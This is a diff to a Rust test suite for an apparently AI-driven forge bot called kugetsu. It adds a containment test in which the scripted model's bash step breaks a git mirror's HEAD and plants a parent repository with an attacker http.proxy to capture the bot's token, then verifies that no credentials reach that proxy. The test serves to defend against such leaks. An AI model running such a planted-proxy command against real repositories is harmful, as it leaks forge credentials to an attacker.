@@ -98,7 +98,9 @@ async fn a_rejected_token_fails_the_run_with_a_clear_comment() {
     assert_eq!(d.post(&t.url("web")).await.0, 202);
     let comments = t.forge.wait_for_comments("acme/widget", 93, 1).await;
     let body = &comments[0].body;
-    assert!(body.contains("Authentication failed") || body.contains("could not read Username"), "{body}");
+    // Said in kugetsu's words; git's own message stays in the log.
+    assert!(body.contains("the forge refused the bot's token when"), "{body}");
+    assert!(!body.contains("Authentication failed") && !body.contains("could not read Username"), "{body}");
     assert!(!body.contains("wrong-token-canary"), "{body}");
     assert!(http.seen().iter().all(|s| s.user.is_none()), "the wrong token was never accepted");
     let jobs = t.wait_for_jobs_done(1).await;
@@ -184,4 +186,76 @@ fn kugetsus_environment_is_closed_to_other_processes_of_its_user() {
     assert!(seen.iter().any(|l| l.contains("listening")), "kugetsu serve did not start: {seen:?}");
     let text = String::from_utf8_lossy(&out.stdout);
     assert!(!out.status.success() && !text.contains("canary"), "kugetsu's environment was readable: {text}");
+}
+
+/// Records every connection made to it, and what was sent first.
+async fn listener_that_records() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
+    use tokio::io::AsyncReadExt;
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let log = seen.clone();
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            let mut buf = vec![0u8; 8192];
+            let n = tokio::time::timeout(std::time::Duration::from_secs(2), stream.read(&mut buf)).await;
+            let text = match n {
+                Ok(Ok(n)) => String::from_utf8_lossy(&buf[..n]).into_owned(),
+                _ => String::new(),
+            };
+            log.lock().unwrap().push(text);
+        }
+    });
+    (port, seen)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_repository_planted_above_the_mirror_never_gets_the_token() {
+    let (mut t, http, served) = bot_with_http_git(TOKEN).await;
+    let (proxy, seen) = listener_that_records().await;
+    let mirror = t.env.state_dir().join("mirrors/web/acme/widget.git");
+    let parent = mirror.parent().unwrap().to_owned();
+    let origin = format!("{}/acme/widget.git", http.url());
+    // The attack from the containment issue: break the mirror's HEAD so git no
+    // longer sees a repository there, and plant one above it whose origin is the
+    // real forge and whose proxy is ours.
+    let attack = format!(
+        "echo garbage > {m}/HEAD && git init -q {p} && git -C {p} config remote.origin.url {origin} && \
+         git -C {p} config http.proxy http://127.0.0.1:{proxy} && \
+         git -C {p} config remote.origin.fetch '+refs/heads/*:refs/remotes/origin/*' && echo planted > planted.txt",
+        m = mirror.display(),
+        p = parent.display(),
+    );
+    t.env.model.on("MARK-PLANT", vec![Step::Bash(attack), Step::Answer("planted".into())]);
+    t.env.model.on("MARK-AFTER", vec![Step::Answer("after the plant".into())]);
+    assert_eq!(gh(&gh_comment(94, 2801, "@kugetsu MARK-PLANT", "alice"), "p-1").post(&t.url("web")).await.0, 202);
+    let comments = t.forge.wait_for_comments("acme/widget", 94, 1).await;
+    assert!(comments[0].body.contains("planted"), "{}", comments[0].body);
+    assert!(parent.join(".git/config").exists(), "the attack ran: the repository above the mirror is there");
+    // A second run fetches again through the same mirror.
+    assert_eq!(gh(&gh_comment(94, 2802, "@kugetsu MARK-AFTER", "alice"), "p-2").post(&t.url("web")).await.0, 202);
+    let comments = t.forge.wait_for_comments("acme/widget", 94, 2).await;
+    assert!(comments[1].body.contains("after the plant"), "{}", comments[1].body);
+    let remote = served.path().join("acme/widget.git");
+    assert!(support::git(&remote, &["show", "kugetsu/94:planted.txt"]).contains("planted"), "the work was pushed");
+    assert!(seen.lock().unwrap().is_empty(), "kugetsu's git never went through the planted proxy: {:?}", seen.lock());
+
+    // Positive control: a git that discovers its repository from the mirror's
+    // directory, as kugetsu's did, walks into the planted one and sends its
+    // Authorization header to the proxy.
+    std::fs::write(mirror.join("HEAD"), "garbage\n").unwrap();
+    std::process::Command::new("git")
+        .current_dir(&mirror)
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env("GIT_TERMINAL_PROMPT", "0")
+        .args(["-c", "http.extraHeader=Authorization: Basic Y29udHJvbC1jYW5hcnk=", "ls-remote", "origin"])
+        .output()
+        .unwrap();
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+    while seen.lock().unwrap().is_empty() && std::time::Instant::now() < deadline {
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    }
+    let got = seen.lock().unwrap().join("\n");
+    assert!(got.contains("Y29udHJvbC1jYW5hcnk="), "the control reached the proxy with its header: {got}");
+    t.stop().await;
 }
